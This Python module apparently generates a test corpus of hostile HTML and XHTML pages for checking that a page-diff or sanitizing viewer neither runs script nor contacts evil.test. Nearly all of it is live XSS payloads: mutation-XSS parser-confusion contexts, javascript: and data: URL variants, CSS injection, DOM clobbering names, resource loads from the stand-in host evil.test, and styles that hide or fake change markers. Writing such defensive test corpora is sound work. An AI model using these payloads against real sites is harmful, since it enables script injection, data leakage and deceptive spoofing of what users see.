"""Hostile pages of our own making, by families: each is (name, kind, bytes), kind being html or xhtml.

What a page must never do is call top.pwn('NAME') or ask evil.test for anything. What it may load (pictures, sounds, fonts, style sheets) is
asked of load.test. Nothing here needs a network: the test that opens them has none. Newer kinds stand in vectors_modern.py."""
import vectors_modern

RUN = "top.pwn('ID')"
EVIL = 'http://evil.test/ID'

# What would run, leave or load, were it read as markup. No quotes of the other kind inside: contexts put them into attributes.
PAYLOADS = {
    'img': '<img src=x: onerror=RUN>',
    'script': '<script>RUN</script>',
    'svg': '<svg onload=RUN>',
    'refresh': '<meta http-equiv=refresh content=0;url=EVIL>',
    'srcdoc': '<iframe srcdoc=&lt;script&gt;RUN&lt;/script&gt;></iframe>',
    'frame': '<iframe src=EVIL></iframe>',
    'link': '<a href=javascript:RUN>x</a>',
    'prefetch': '<link rel=prefetch href=EVIL>',
    'base': '<base href=EVIL/ target=_top>',
    'object': '<object data=EVIL></object>',
    'embed': '<embed src=EVIL>',
    'focus': '<input autofocus onfocus=RUN>',
    'toggle': '<details open ontoggle=RUN>x</details>',
    'video': '<video><source onerror=RUN></video>',
    'form': '<form action=EVIL><button autofocus formaction=javascript:RUN>x</button></form>',
    'animate': '<svg><a><animate attributeName=href values=javascript:RUN /><text y=9>x</text></a></svg>',
    'import': '<style>@import url(data:text/css,@import%20"EVIL");</style><script>RUN</script>',
    'body': '<body onload=RUN onpageshow=RUN>',
}

# {P}: the payload as it is; {E}: escaped, as it would stand in an attribute. What reads these twice reads them differently.
CONTEXTS = {
    'plain': '{P}',
    'mglyph': '<math><mtext><table><mglyph><style></math>{P}',
    'mglyph-comment': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{E}">',
    'malignmark': '<math><mtext><malignmark><style></mtext></math>{P}</style>',
    'mtext-svg': '<math><mtext><svg><mtext><style><path id="</style>{E}">',
    'mi-table': '<math><mi><table><mi><style></math>{P}',
    'annotation': '<math><annotation-xml encoding="text/html"><style>{P}</style></annotation-xml></math>',
    'annotation-xml': '<math><annotation-xml><style><!--</style><p title="--&gt;{E}"></annotation-xml></math>',
    'semantics': '<math><semantics><mrow></mrow><annotation-xml encoding=application/xhtml+xml>{P}</annotation-xml></semantics></math>',
    'svg-style': '<svg><style><!--</style>{P}--></style></svg>',
    'svg-style-escaped': '<svg><style>{E}</style></svg>',
    'svg-p-style': '<svg></p><style><a id="</style>{E}"></style></svg>',
    'svg-title': '<svg><title><style><!--</style><p title="--&gt;{E}"></title></svg>',
    'svg-desc': '<svg><desc><noscript><style></noscript>{P}</style></desc></svg>',
    'svg-cdata': '<svg><![CDATA[><p title="]]>{P}">]]></svg>',
    'foreign-object': '<svg><foreignObject>{P}</foreignObject></svg>',
    'foreign-nest': '<svg><foreignObject><math><mtext><svg><style></math>{P}</style></svg></foreignObject></svg>',
    'svg-font': '<svg><font color=x></font><style><a title="</style>{E}"></style></svg>',
    'table-foster': '<table><svg><style></table>{P}</style></svg></table>',
    'table-form': '<table><form><tr><form><td><style></form>{P}</style></table>',
    'form-nest': '<form><math><mtext></form><form><mglyph><style></math>{P}',
    'form-div': '<form><div></form><form><textarea></form>{P}</textarea></div></form>',
    'a-nest': '<a><table><tr><td><a><style></a>{P}</style></table>',
    'button-nest': '<button><div><button><xmp></button>{P}</xmp></div></button>',
    'p-nest': '<p><svg><desc><p></desc><style></p>{P}</style></svg>',
    'template': '<template><style></template>{P}</style></template>',
    'template-shadow': '<div><template shadowrootmode=open>{P}</template></div>',
    'template-table': '<table><template><tr><td>{P}</template></table>',
    'noscript': '<noscript><p title="</noscript>{E}"></noscript>',
    'noscript-style': '<noscript><style></noscript>{P}</style></noscript>',
    'noembed': '<noembed><p title="</noembed>{E}"></noembed>',
    'noframes': '<noframes><p title="</noframes>{E}"></noframes>',
    'xmp': '<xmp><p title="</xmp>{E}"></xmp>',
    'xmp-escaped': '<xmp>{E}</xmp>',
    'plaintext': '<plaintext>{P}',
    'listing': '<listing>{E}</listing>',
    'textarea': '<textarea><p title="</textarea>{E}"></textarea>',
    'title': '<title><p title="</title>{E}"></title>',
    'iframe-text': '<iframe><p title="</iframe>{E}"></iframe>',
    'select': '<select><template><style><!--</style><a title="--&gt;{E}"></template></select>',
    'select-option': '<select><option><style></option></select>{P}</style></option></select>',
    'select-svg': '<select><svg><style></select>{P}</style></svg></select>',
    'comment': '<!--><p title="-->{P}">-->',
    'comment-bang': '<!--<p title="--!>{P}">-->',
    'bogus-comment': '<?xml {P}?><!x {P}>',
    'style-end': '<style>a{b:"</style>{P}"}</style>',
    'style-escape': '<style>a::before{content:"\\3c /style\\3e {E}"}</style>',
    'attribute-break': '<p title="`&quot;&gt;{E}" class=\'"{E}\'>x</p>',
    'ruby': '<ruby><rt><style></ruby>{P}</style></rt></ruby>',
    'frameset': '<frameset>{P}</frameset>{P}',
    'deep': '<div>' * 515 + '<style></div>{P}</style>',
    'formatting': '<b>' * 70 + '<p><i><style></b>{P}</style></i>',
    'marks': '<ins data-weft=insert><del data-weft=delete>{P}</del></ins>',
}

ADDRESSES = ['javascript:RUN', ' javascript:RUN', 'JaVaScRiPt:RUN', 'java\tscript:RUN', 'java&NewLine;script:RUN', '\x01javascript:RUN',
             'javascript&colon;RUN', '&#106;avascript:RUN', 'vbscript:RUN', 'data:text/html,<script>RUN</script>',
             'data:text/html;base64,PHNjcmlwdD50b3AucHduKCk8L3NjcmlwdD4=', 'blob:http://evil.test/ID', 'view-source:javascript:RUN',
             'javascript://a/%0aRUN//', 'feed:javascript:RUN', 'about:blank#<script>RUN</script>', 'intent:EVIL#Intent;end', 'mhtml:EVIL!x',
             'jar:EVIL!/x', 'livescript:RUN']
PLACES = ['<a href="{A}">x</a>', '<area href="{A}">', '<svg><a xlink:href="{A}"><text y=9>x</text></a></svg>', '<svg><a href="{A}"><text y=9>x</text></a></svg>',
          '<iframe src="{A}"></iframe>', '<form action="{A}"><button>x</button></form>', '<button formaction="{A}">x</button>',
          '<math href="{A}"><mi>x</mi></math>', '<object data="{A}"></object>', '<embed src="{A}">', '<base href="{A}"><a href=foo>x</a>',
          '<svg><use href="{A}"/></svg>', '<video poster="{A}" src="{A}"></video>', '<link rel=stylesheet href="{A}">', '<img src="{A}">']

ALONE = {
    'prefetch': '<link rel=prefetch href=EVIL>', 'preload': '<link rel=preload as=image href=EVIL>', 'preconnect': '<link rel=preconnect href=EVIL>',
    'dns': '<link rel=dns-prefetch href=//evil.test>', 'icon': '<link rel=icon href=EVIL>', 'manifest': '<link rel=manifest href=EVIL>',
    'modulepreload': '<link rel=modulepreload href=EVIL>', 'prerender': '<link rel=prerender href=EVIL>', 'search': '<link rel=search href=EVIL>',
    'sheet-and-prefetch': '<link rel="stylesheet prefetch" href=EVIL>', 'ping': '<a href=http://load.test/ ping=EVIL>x</a>',
    'attribution': '<img attributionsrc=EVIL src=data:image/gif,x>', 'portal': '<portal src=EVIL></portal>', 'fenced': '<fencedframe src=EVIL></fencedframe>',
    'opener': '<a target=_blank rel=opener href=http://load.test/>x</a>', 'applet': '<applet code=x archive=EVIL></applet>', 'bgsound': '<bgsound src=EVIL>',
    'frame': '<frameset><frame src=EVIL></frameset>', 'background-script': '<body background=javascript:RUN>', 'param': '<object><param name=src value=EVIL></object>',
    'csp': '<meta http-equiv=Content-Security-Policy content="img-src *; report-uri EVIL">', 'cookie': '<meta http-equiv=set-cookie content=a=b>',
    'speculation': '<script type=speculationrules>{"prefetch":[{"urls":["EVIL"]}]}</script>', 'importmap': '<script type=importmap>{}</script>',
    'image-submit': '<form action=EVIL><input type=image></form>', 'invoker': '<button commandfor=x command=show-modal>x</button><dialog id=x>y</dialog>',
    'popover': '<button popovertarget=x>x</button><div popover id=x onbeforetoggle=RUN>y</div>', 'nonce': '<script nonce=x>RUN</script>',
    'is': '<button is=x-y onclick=RUN>x</button>', 'slot': '<slot onslotchange=RUN>x</slot>', 'marquee': '<marquee onstart=RUN>x</marquee>',
    'cite': '<blockquote cite=javascript:RUN>x</blockquote>', 'longdesc': '<img longdesc=javascript:RUN alt=x>', 'usemap': '<img usemap=#m><map name=m><area href=javascript:RUN></map>',
    'srcset': '<img srcset="javascript:RUN 1x, data:text/html,x 2x">', 'imagesrcset': '<link rel=preload imagesrcset=EVIL as=image>',
    'lazy': '<iframe loading=lazy src=EVIL></iframe>', 'credentialless': '<iframe credentialless src=EVIL></iframe>', 'name': '<iframe name=weft-page src=EVIL></iframe>',
    'doctype': '<!DOCTYPE <script>RUN</script>>', 'doctype-id': '<!DOCTYPE html PUBLIC "<script>RUN</script>" "\'">', 'null': '<scr\x00ipt>RUN</scr\x00ipt>',
    'slash': '<img/src=x:/onerror=RUN>', 'backtick': '<img src=`x:`onerror=RUN>', 'upper': '<SCRIPT>RUN</SCRIPT>', 'half': '<script<b>RUN</script>',
    'svg-set': '<svg><a><set attributeName=xlink:href to=javascript:RUN /><text y=9>x</text></a></svg>', 'svg-handler': '<svg><handler type=text/ecmascript>RUN</handler></svg>',
    'svg-use-data': '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>RUN</script></svg>#x"/></svg>',
    'svg-feimage': '<svg><filter><feImage href=EVIL /></filter></svg>', 'svg-discard': '<svg><discard onbegin=RUN /></svg>',
    'svg-animate-begin': '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>', 'svg-foreign-frame': '<svg><foreignObject><iframe src=EVIL></iframe></foreignObject></svg>',
    'svg-image': '<svg><image href=javascript:RUN /></svg>', 'svg-script-href': '<svg><script href=EVIL></script></svg>', 'svg-xlink-script': '<svg><script xlink:href=EVIL /></svg>',
    'svg-style': '<svg><style>@import "data:text/css,x";</style></svg>', 'svg-text-path': '<svg><textPath href=EVIL>x</textPath></svg>', 'svg-tref': '<svg><tref xlink:href=EVIL /></svg>',
    'svg-cursor': '<svg><cursor xlink:href=EVIL /></svg>', 'svg-mpath': '<svg><animateMotion><mpath href=EVIL /></animateMotion></svg>',
    'math-maction': '<math><maction actiontype="statusline#EVIL" xlink:href=javascript:RUN><mi>x</mi></maction></math>',
}

STYLES = ['behavior:url(EVIL)', '-moz-binding:url(EVIL#x)', 'width:expression(RUN)', 'background:url(javascript:RUN)', 'background:u\\72l(java\\73 cript:RUN)',
          'list-style:url("javascript:RUN")', '@import "javascript:RUN"', 'x:\\65xpression(RUN)', 'content:"</style><img src=x: onerror=RUN>"',
          'x:"\\3c/style\\3e<script>RUN</script>', '/*</style><script>RUN</script>*/', '} </style><script>RUN</script>', '<!--</style><script>RUN</script>-->',
          '@media (width < 9px){</style><script>RUN</script>}', 'x:url(</style><script>RUN</script>)', 'x:url("a\n</style><script>RUN</script>")',
          'x:\\', 'x:"', "x:'", 'x:/*', 'x:url(', 'x:(((', 'filter:progid:DXImageTransform.Microsoft.AlphaImageLoader(src=EVIL)', '@charset "x";@namespace url(EVIL)']

CLOBBERS = ['querySelectorAll', 'querySelector', 'getAttribute', 'setAttribute', 'getElementById', 'body', 'documentElement', 'URL', 'readyState', 'head', 'cookie',
            'addEventListener', 'closest', 'children', 'getBoundingClientRect', 'nodeType', 'localName', 'ownerDocument', 'parentNode', 'contentDocument', 'top',
            'parent', 'frames', 'location', 'scrollY', 'scrollTo', 'defaultView', 'activeElement', 'forms', 'style']
CLOBBERING = ['<img name=%s>', '<form name=%s><input name=%s></form>', '<a id=%s></a><a id=%s name=x>y</a>', '<object name=%s></object><embed name=%s>']

IMITATIONS = [
    '<style>ins,del,[data-weft]{display:none!important}</style>', '<style>*{visibility:hidden!important;opacity:0!important}</style>',
    '<style>ins::before{content:"not changed"!important}</style>', '<style>[data-weft]{all:unset!important;font-size:0!important}</style>',
    '<style>@layer x{[data-weft]{color:transparent!important;background:none!important}}</style>', '<style>ins{transition:all 9999s;}@starting-style{ins{opacity:0}}</style>',
    '<style>ins{animation:x 1s forwards}@keyframes x{to{opacity:0;font-size:0}}</style>', '<div class="weft-banner f-top" style="position:fixed;inset:0;z-index:2147483647;background:#fff">The pages do not differ</div>',
    '<header class=f-top>The pages do not differ</header>', '<span data-weft=ui class=weft-label>moved</span>', '<iframe data-weft=page srcdoc=x></iframe>',
    '<ins id=weft-1 data-weft=insert>never came</ins>', '<p id=weft-1 data-weft-change=1 data-weft-stop=1>x</p>', '<div id=unseen>0</div><div id=changes></div><div id=page></div>',
    '<style>body{transform:scale(0)}</style>', '<style>html{display:none!important}</style>', '<style>body{clip-path:circle(0)}</style>', '<style>body{filter:opacity(0)}</style>',
    '<style>body{height:0!important;overflow:hidden!important}</style>', '<style>body{font-size:0!important}</style>', '<style>del{position:absolute;left:-9999px}</style>',
    '<style>:has(ins){display:none!important}</style>', '<style>p{text-indent:-9999px!important}</style>', '<style>body{mask-image:linear-gradient(transparent,transparent)}</style>',
]

XML = '<?xml version="1.0"?><x:page xmlns:x="urn:x" xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://www.w3.org/1999/xhtml" xmlns:s="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">%s</x:page>'
XHTML = ['<{N}script>RUN</{N}script>', '<{N}iframe src="EVIL"></{N}iframe>', '<{N}meta http-equiv="refresh" content="0;url=EVIL"/>', '<{N}base href="EVIL"/>',
         '<{N}link rel="prefetch" href="EVIL"/>', '<{N}img src="x:" onerror="RUN"/>', '<{N}a href="javascript:RUN">x</{N}a>', '<{N}object data="EVIL"/>', '<{N}embed src="EVIL"/>',
         '<{N}form action="EVIL"><{N}button formaction="javascript:RUN">x</{N}button></{N}form>', '<{N}style>&lt;/style&gt;&lt;script&gt;RUN&lt;/script&gt;</{N}style>',
         '<{N}noscript>&lt;img src=x: onerror=RUN&gt;</{N}noscript>', '<{N}xmp>&lt;/xmp&gt;&lt;script&gt;RUN&lt;/script&gt;</{N}xmp>',
         '<{N}textarea>&lt;/textarea&gt;&lt;script&gt;RUN&lt;/script&gt;</{N}textarea>', '<{N}title>&lt;/title&gt;&lt;script&gt;RUN&lt;/script&gt;</{N}title>',
         '<{N}plaintext>&lt;script&gt;RUN&lt;/script&gt;</{N}plaintext>', '<{N}template><script>RUN</script></{N}template>', '<{N}svg onload="RUN"/>',
         '<{N}table>x<{N}script>RUN</{N}script></{N}table>', '<{N}select><{N}iframe src="EVIL"/></{N}select>', '<{N}p><{N}p><{N}style>&lt;/p&gt;&lt;script&gt;RUN&lt;/script&gt;</{N}style></{N}p></{N}p>']
SPELLINGS = {'lower': str, 'upper': lambda s: s.replace('{N}script', '{N}SCRIPT').replace('{N}iframe', '{N}IFRAME').replace('{N}meta', '{N}META').replace('{N}base', '{N}BASE')
             .replace('{N}link', '{N}LINK').replace('{N}style', '{N}STYLE').replace(' on', ' ON').replace(' href', ' HREF').replace('{N}xmp', '{N}XMP').replace('{N}object', '{N}Object'),
             'prefix': lambda s: s.replace('{N}', 'h:'), 'svg': lambda s: s.replace('{N}', 's:')}


def escape(text):
    return text.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;').replace('"', '&quot;')


def page(body):
    return '<!doctype html><title>v</title><p>One word is here to change: new.</p>' + body + '<p>The end of it.</p>'


def pairs():
    """(name, kind, text) with RUN, EVIL and ID not yet put in."""
    for where, context in CONTEXTS.items():
        for what, payload in PAYLOADS.items():
            yield f'{where}-{what}', 'html', page(context.replace('{P}', payload).replace('{E}', escape(payload)))
    for i, place in enumerate(PLACES):
        for k, address in enumerate(ADDRESSES):
            if i < 2 or (i + k) % 3 == 0:
                yield f'address-{i}-{k}', 'html', page(place.replace('{A}', address))
    for what, body in ALONE.items():
        yield f'alone-{what}', 'html', body + page('') if what.startswith('doctype') else page(body)
    for k, style in enumerate(STYLES):
        yield f'sheet-{k}', 'html', page(f'<style>a{{{style}}}</style>')
        yield f'style-{k}', 'html', page(f'<p style="{escape(style)}">x</p>')
        yield f'svg-sheet-{k}', 'html', page(f'<svg><style>a{{{style}}}</style></svg>')
    for name in CLOBBERS:
        for k, body in enumerate(CLOBBERING):
            yield f'clobber-{name}-{k}', 'html', page(body.replace('%s', name))
    for k, body in enumerate(IMITATIONS):
        yield f'imitation-{k}', 'html', page(body)
    for spelling, spell in SPELLINGS.items():
        for k, body in enumerate(XHTML):
            inner = spell(body).replace('{N}', '')
            yield f'xhtml-{spelling}-{k}', 'xhtml', XML % f'<body><p>One word is here to change: new.</p>{inner}<p>The end of it.</p></body>'
    for name, kind, body in vectors_modern.bodies():
        yield name, kind, page(body) if kind == 'html' else XML % f'<body><p>One word is here to change: new.</p>{body}<p>The end of it.</p></body>'


def vectors():
    for name, kind, text in pairs():
        yield name, kind, text.replace('RUN', RUN).replace('EVIL', EVIL).replace('ID', name).encode('utf-8', 'surrogatepass')


if __name__ == '__main__':
    print(len(list(vectors())))
